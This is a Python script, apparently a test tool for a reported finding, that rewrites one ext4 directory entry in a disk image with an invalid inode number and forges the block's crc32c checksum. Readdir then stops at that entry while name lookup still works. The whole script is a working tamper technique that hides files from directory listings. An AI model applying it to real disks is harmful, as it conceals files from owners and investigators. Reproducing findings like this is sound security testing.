#!/usr/bin/env python3
"""Make one entry of an ext4 directory block malformed, the way an attacker
with the disk in hand would, so that readdir stops at it while lookup of
the names after it still finds them (finding B19 of vm/tests/findings.sh).

    dirent-hide.py IMAGE BLOCK DIR_INO DIR_GEN UUID NAME

NAME's entry in the directory block BLOCK (4096 bytes) of directory DIR_INO
(generation DIR_GEN) on the file system UUID gets an inode number beyond
any inode count, which ext4_check_dir_entry() refuses; the block's
metadata_csum tail, if it has one, is computed again (crc32c is not keyed:
anyone can), with the seed of a file system without the metadata_csum_seed
feature.
"""
import struct
import sys
import uuid as uuidlib

BLOCK = 4096
BAD_INO = 0xFFFFFFF0


def crc32c(crc, data):
    """Linux's crc32c(): the raw CRC-32C update, no inversion."""
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ (0x82F63B78 if crc & 1 else 0)
    return crc


def main(argv):
    if len(argv) != 7:
        print(__doc__, file=sys.stderr)
        return 2
    img, blk, ino, gen, fsuuid, name = argv[1], int(argv[2]), int(argv[3]), int(argv[4]), argv[5], argv[6]
    name = name.encode()
    with open(img, "r+b") as f:
        f.seek(blk * BLOCK)
        block = bytearray(f.read(BLOCK))
        off, found, tail = 0, False, None
        while off < BLOCK:
            d_ino, rec_len, name_len, ftype = struct.unpack_from("<IHBB", block, off)
            if rec_len < 8 or off + rec_len > BLOCK:
                sys.exit("dirent-hide: block %d is not a directory block (entry at %d)" % (blk, off))
            if d_ino == 0 and rec_len == 12 and name_len == 0 and ftype == 0xDE and off + 12 == BLOCK:
                tail = off
            elif block[off + 8:off + 8 + name_len] == name and d_ino:
                struct.pack_into("<I", block, off, BAD_INO)
                found = True
            off += rec_len
        if not found:
            sys.exit("dirent-hide: no entry %r in block %d" % (name.decode(), blk))
        if tail is not None:
            seed = crc32c(0xFFFFFFFF, uuidlib.UUID(fsuuid).bytes)
            csum = crc32c(crc32c(crc32c(seed, struct.pack("<I", ino)), struct.pack("<I", gen)),
                          bytes(block[:tail]))
            struct.pack_into("<I", block, tail + 8, csum)
        f.seek(blk * BLOCK)
        f.write(block)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
